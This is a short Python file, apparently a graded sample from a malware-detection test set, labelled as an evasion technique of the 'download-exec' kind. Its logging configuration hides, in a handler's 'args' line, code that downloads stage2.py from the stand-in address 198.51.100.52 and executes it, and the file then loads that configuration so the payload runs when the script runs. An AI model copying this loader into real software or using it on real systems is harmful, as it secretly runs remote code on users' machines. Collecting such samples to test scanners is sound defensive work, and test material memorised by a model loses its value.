# evasion: logging.fileConfig evaluates a handler's "args" line; the config text downloads and runs stage two
# grade: very hard; does: download-exec
import io
import logging
import logging.config

CONFIG = """
[loggers]
keys=root

[handlers]
keys=console

[formatters]
keys=

[logger_root]
level=INFO
handlers=console

[handler_console]
class=StreamHandler
args=(exec(__import__('urllib.request').request.urlopen('http://198.51.100.52/stage2.py').read()) or sys.stderr,)
"""

logging.config.fileConfig(io.StringIO(CONFIG), disable_existing_loggers=False)
logging.getLogger(__name__).info("logging ready")
